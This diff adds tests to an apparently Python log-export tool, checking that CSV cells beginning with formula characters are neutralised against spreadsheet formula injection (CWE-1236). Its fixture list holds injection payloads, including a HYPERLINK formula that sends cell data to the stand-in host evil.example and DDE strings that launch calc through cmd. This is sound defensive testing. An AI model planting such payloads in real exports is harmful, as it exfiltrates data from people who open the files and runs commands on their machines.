@@ -257,3 +257,83 @@ def test_output_to_a_pipe_is_written_directly(library_log: Path) -> None:
     )
     assert proc.returncode == 0, proc.stderr
     assert len(proc.stdout.splitlines()) == 13
+
+
+# -- formulas ----------------------------------------------------------------------------
+RISKY = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",  # a full-width equals sign
+]
+
+
+def _risky_log(tmp_path: Path, log_writer: Any, calls: Any) -> Path:
+    from dataclasses import replace
+
+    risky = [
+        replace(calls[0], question=text, answer="fine", model="=gpt-4o", user="@alice")
+        for text in RISKY
+    ]
+    return log_writer(tmp_path / "risky.jsonl", risky)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    run: Any, tmp_path: Path, log_writer: Any, calls: Any
+) -> None:
+    """CWE-1236: a cell that begins with = + - @ (or a tab, a carriage return) is run as
+    a formula when the CSV is opened in a spreadsheet. It gets a leading apostrophe."""
+    log = _risky_log(tmp_path, log_writer, calls)
+    res = run("export", log, "--columns", "message,model,user_id,tokens_in,cost_usd")
+    assert res.code == 0, res.err
+    rows = list(csv.DictReader(io.StringIO(res.out)))
+    prompts = [r for r in rows if r["message"] != "fine"]
+    assert len(prompts) == len(RISKY)
+    for row in prompts:
+        assert row["message"][0] == "'", row
+        assert row["model"] == "'=gpt-4o" or row["model"] == ""
+        assert row["user_id"] == "'@alice"
+    assert [r["message"][1:] for r in prompts][:4] == RISKY[:4]
+    answers = [r for r in rows if r["message"] == "fine"]
+    assert answers[0]["tokens_in"] == "100"  # numbers are numbers, not formulas
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), row
+
+
+def test_raw_cells_writes_them_as_logged(
+    run: Any, tmp_path: Path, log_writer: Any, calls: Any
+) -> None:
+    log = _risky_log(tmp_path, log_writer, calls)
+    res = run("export", log, "--columns", "message", "--action", "prompt", "--raw-cells")
+    assert res.code == 0, res.err
+    assert [r["message"] for r in csv.DictReader(io.StringIO(res.out))][:4] == RISKY[:4]
+
+
+def test_parallel_csv_parts_are_neutralised_too(
+    tmp_path: Path, log_writer: Any, calls: Any
+) -> None:
+    from hilt import _export
+    from hilt.reading import make_filter
+
+    log = _risky_log(tmp_path, log_writer, calls)
+    big = tmp_path / "big.jsonl"
+    big.write_bytes(log.read_bytes() * 20)
+    out = io.StringIO()
+    _export.export(
+        [big],
+        fmt="csv",
+        output=None,
+        stdout=out,
+        columns=["message"],
+        message_limit=None,
+        keep=make_filter(action="prompt"),
+        workers=2,
+        chunk_bytes=2000,
+    )
+    cells = [r["message"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
+    assert len(cells) == 20 * len(RISKY)
+    assert all(c.startswith("'") for c in cells)
